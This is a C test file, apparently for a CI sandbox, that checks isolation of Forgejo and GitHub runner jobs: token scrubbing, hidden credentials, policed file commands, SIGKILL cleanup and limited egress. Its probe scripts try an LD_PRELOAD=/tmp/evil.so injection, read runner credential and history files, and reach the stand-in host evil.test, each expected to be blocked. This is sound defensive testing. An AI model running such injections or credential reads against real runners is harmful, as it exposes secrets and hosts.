	cr_assert(asprintf(&line, "%.*s%s%s", (int)(at - line), line, script, at + 3) > 0);
	split_posix(line, argv, 32);
	step_run(&(struct step){.argv = (const char *const *)argv,
	                        .env = a->env,
	                        .cwd = a->ws,
	                        .as = a->m,
	                        .pty = true,
	                        .netns = a->netns,
	                        .cancel = cancel,
	                        .cancel_after = "started",
	                        .launcher_children = kids},
	         r);
}

/* The step's profile: forgejo, with pasta as the network helper (the one most likely to
 * outlive a kill). */
static char *forgejo_profile(struct act *a)
{
	char *p = cat(a->home, "/forgejo-pasta.json");

	write_as(a->m, p, "{\"extends\": \"forgejo\", \"network\": {\"backend\": \"pasta\"}}",
	         0644);
	return p;
}

/* Every file command reaches the runner (its policed part), the script runs from
 * act/workflow, stdin is the PTY, tokens are scrubbed, and nothing of the runner's home is in
 * view but the job's own directories. */
DUAL_TEST(ci, forgejo_act_layout, .timeout = 90)
{
	struct world wd;
	struct act a;
	struct step_result r;
	char *run;

	world_up(&wd);
	act_setup(&a, m, wd.w);
	cr_assert(
	    asprintf(&run,
	             "[ -t 0 ] && echo stdin is a terminal\n"
	             "env | grep -E 'SECRET|hunter2' || echo tokens scrubbed\n"
	             "pwd\n"
	             "cat %s/.runner %s/.bash_history 2>/dev/null && echo LEAK || echo "
	             "registration hidden\n"
	             "ls %s/.cache/act 2>/dev/null | grep -v 0f1e2d3c4b5a6978 && echo LEAK || "
	             "echo home hidden\n"
	             "echo greeting=hello >> \"$GITHUB_OUTPUT\"\n"
	             "echo saved=1 >> \"$FORGEJO_STATE\"\n"
	             "echo FROM_STEP=yes >> \"$GITHUB_ENV\"\n"
	             "echo LD_PRELOAD=/tmp/evil.so >> \"$FORGEJO_ENV\"\n"
	             "echo /usr/local/bin >> \"$GITHUB_PATH\"\necho \"$PWD\" >> \"$GITHUB_PATH\"\n"
	             "echo '## summary' >> \"$GITHUB_STEP_SUMMARY\"\n"
	             "cat \"$GITHUB_EVENT_PATH\"; echo\n",
	             a.home, a.home, a.home) > 0);
	act_step(&a, forgejo_profile(&a), 0, run, &r, NO_CANCEL, NULL);
	cr_assert(r.eof);
	cr_assert_eq(r.status, 0, "%s", r.out);
	cr_assert(strstr(r.out, cat(cat("stdin is a terminal\ntokens scrubbed\n", a.ws),
	                            "\nregistration hidden\nhome hidden\n{}\n")),
	          "%s", r.out);
	cr_assert(strstr(r.out, "removed from a file command: GITHUB_ENV: LD_PRELOAD"), "%s",
	          r.out);
	cr_assert_str_eq(read_text(cat(a.wf, "/outputcmd.txt")), "greeting=hello\n");
	cr_assert_str_eq(read_text(cat(a.wf, "/statecmd.txt")), "saved=1\n");
	cr_assert_str_eq(read_text(cat(a.wf, "/envs.txt")), "FROM_STEP=yes\n");
	cr_assert_str_eq(read_text(cat(a.wf, "/pathcmd.txt")), "/usr/local/bin\n");
	cr_assert_str_eq(read_text(cat(a.wf, "/SUMMARY.md")), "## summary\n");
	step_result_free(&r);
	world_down(&wd);
	rm_rf(a.home);
}

/* Cancel is SIGKILL to the process group, no grace: the sandbox, its network namespace and
 * pasta still vanish (parent-death signals). */
DUAL_TEST(ci, forgejo_sigkill_leaves_nothing, .timeout = 90)
{
	struct world wd;
	struct act a;
	struct step_result r;
	pid_t kids[8] = {0};
	char ns[64] = "";
	const char *at, *marker = m == ROOT ? "sleep 3600.75" : "sleep 3600.76";

	world_up(&wd);
	act_setup(&a, m, wd.w);
	act_step(&a, forgejo_profile(&a), 1,
	         m == ROOT ? "readlink /proc/self/ns/net\necho started\nsleep 3600.75\n"
	                   : "readlink /proc/self/ns/net\necho started\nsleep 3600.76\n",
	         &r, CANCEL_FORGEJO, kids);
	cr_assert_eq(r.status, 128 + SIGKILL, "%s", r.out);
	cr_assert(kids[0] > 0 && kids[1] > 0, "expected sandbox init and pasta under the launcher");
	at = strstr(r.out, "net:[");
	cr_assert(at, "%s", r.out);
	snprintf(ns, sizeof(ns), "%.*s", (int)strcspn(at, "\r\n"), at);
	await_gone(marker, ns, kids, 100);
	cr_assert_not(host_process_exists(marker), "a job process outlived SIGKILL");
	cr_assert_not(netns_in_use(ns), "the sandbox's network namespace %s is still in use", ns);
	for (int k = 0; kids[k]; k++)
		cr_assert_not(pid_alive(kids[k]), "launcher child %d (init or pasta) is alive",
		              kids[k]);
	step_result_free(&r);
	world_down(&wd);
	rm_rf(a.home);
}

/* The whole ephemeral runner in one sandbox: its JIT config passes by name, its directory is
 * the read-write workspace, its registration files stay hidden, and egress is GitHub's
 * endpoints only (a name outside them does not even resolve). */
DUAL_TEST(ci, runner_profile_wraps_run_sh, .timeout = 60)
{
	struct world wd;
	char *dir = tmpdir_for(m);
	struct result r;

	world_up(&wd);
	write_as(m, cat(dir, "/.credentials"), "{\"secret\": \"x\"}", 0600);
	write_as(
	    m, cat(dir, "/run.sh"),
	    "#!/bin/sh\necho \"runner in $PWD with $1, jit ${ACTIONS_RUNNER_INPUT_JITCONFIG}\"\n"
	    "cat .credentials 2>/dev/null | grep -q secret && echo LEAK || echo "
	    "credentials hidden\n" FETCH "evil.test 80\n",
	    0755);
	cis_run(m, &r, ARGS("ACTIONS_RUNNER_INPUT_JITCONFIG=jit-SECRET"),
	        ARGS("run", "--profile", "runner", "-w", dir, "--", "./run.sh", "--jitconfig"));
	cr_assert_eq(r.status, 0, "%s", r.err);
	cr_assert_str_eq(r.out, "runner in /workspace with --jitconfig, jit jit-SECRET\n"
	                        "credentials hidden\ngaierror\n");
	result_free(&r);
	world_down(&wd);
	dir_done(dir);
}
